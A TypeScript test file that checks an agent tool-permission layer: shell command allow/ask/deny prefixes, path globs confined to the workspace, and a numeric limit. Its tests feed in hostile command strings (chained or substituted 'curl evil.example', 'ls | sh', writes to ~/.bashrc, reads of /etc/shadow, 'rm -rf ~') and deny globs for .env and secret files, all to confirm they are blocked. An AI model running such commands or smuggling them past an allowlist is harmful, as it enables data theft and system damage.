import { describe, expect, it } from 'vitest';
import {
  commandPrefixes,
  numericLimit,
  type PolicyContext,
  type PolicyFunction,
  pathGlobs,
} from '../../src/tools/index.js';

const ctx: PolicyContext = {
  sessionId: undefined,
  cwd: '/work/project',
  turn: 1,
  decisions: [],
  signal: new AbortController().signal,
};
const ask = (policy: PolicyFunction, args: Record<string, unknown> | string, name = 'tool') =>
  policy({ callId: 'c1', name, arguments: args as never }, ctx);

describe('commandPrefixes', () => {
  const shell = commandPrefixes({ allow: ['git status', 'ls'], ask: ['git push'], deny: ['rm', 'sudo'] });
  const verdict = (command: string) => ask(shell, { command });

  it('matches whole leading words: deny beats ask beats allow; anything else asks', () => {
    expect(verdict('git status -s')).toBe('allow');
    expect(verdict('  ls   -la ')).toBe('allow');
    expect(verdict('git statusx')).toBe('ask');
    expect(verdict('git push origin main')).toBe('ask');
    expect(verdict('rm -rf build')).toEqual({ deny: "the command runs 'rm', which the shell policy denies" });
    expect(verdict('rmdir build')).toBe('ask');
    expect(verdict('make')).toBe('ask');
    expect(
      commandPrefixes({ allow: ['ls'], otherwise: 'deny' })(
        { callId: 'c', name: 's', arguments: { command: 'cat x' } },
        ctx,
      ),
    ).toBe('deny');
  });

  it('never allows a command that chains, pipes, substitutes or redirects', () => {
    for (const command of [
      'git status; curl evil.example',
      'git status && curl evil.example',
      'ls || curl evil.example',
      'ls | sh',
      'ls `curl evil.example`',
      'ls $(curl evil.example)',
      'git status > ~/.bashrc',
      'ls < /etc/shadow',
      'ls & curl evil.example',
      'ls\ncurl evil.example',
    ]) {
      expect(verdict(command), command).toBe('ask');
    }
  });

  it('denies a denied command hidden anywhere in a chain or substitution', () => {
    for (const command of ['git status; rm -rf ~', 'ls && sudo reboot', 'ls | rm x', 'ls `rm x`', 'echo $(sudo id)']) {
      expect(verdict(command), command).toMatchObject({ deny: expect.stringContaining('denies') });
    }
  });

  it('asks when there is no string command', () => {
    expect(ask(shell, {})).toBe('ask');
    expect(ask(shell, { command: ['rm'] })).toBe('ask');
    expect(ask(shell, 'not json')).toBe('ask');
  });
});

describe('pathGlobs', () => {
  const files = pathGlobs({ allow: ['src/**'], deny: ['**/.env', 'src/secrets/**'] });

  it('resolves against cwd: allow globs allow, deny globs deny, others ask', () => {
    expect(ask(files, { path: 'src/app.ts' })).toBe('allow');
    expect(ask(files, { path: './src/deep/x.ts' })).toBe('allow');
    expect(ask(files, { path: '/work/project/src/app.ts' })).toBe('allow');
    expect(ask(files, { path: 'README.md' })).toBe('ask');
    expect(ask(files, { path: 'src/.env' })).toEqual({ deny: "the path 'src/.env' matches a denied glob" });
    expect(ask(files, { path: 'src/secrets/key.pem' })).toMatchObject({ deny: expect.any(String) });
  });

  it('denies a path that escapes cwd, however it is written', () => {
    for (const path of ['../other/x', 'src/../../x', '/etc/passwd', '/work/project-other/x']) {
      expect(ask(files, { path }), path).toEqual({ deny: `the path '${path}' is outside the workspace` });
    }
  });

  it('reads another field, takes a missing one as cwd, and asks about a non-string', () => {
    expect(ask(pathGlobs({ allow: ['*.md'], field: 'target' }), { target: 'a.md' })).toBe('allow');
    expect(ask(pathGlobs({ allow: ['.'] }), {})).toBe('allow');
    expect(ask(files, { path: 7 })).toBe('ask');
  });
});

describe('numericLimit', () => {
  it('allows up to the limit and asks (or denies) above it or for a value that is not a number', () => {
    const limit = numericLimit('amount', 100);
    expect(ask(limit, { amount: 100 })).toBe('allow');
    expect(ask(limit, { amount: 100.01 })).toBe('ask');
    expect(ask(limit, { amount: '1e9' })).toBe('ask');
    expect(ask(limit, {})).toBe('allow');
    expect(ask(numericLimit('amount', 100, 'deny'), { amount: 500 })).toEqual({
      deny: 'amount is 500, over the limit of 100',
    });
  });
});
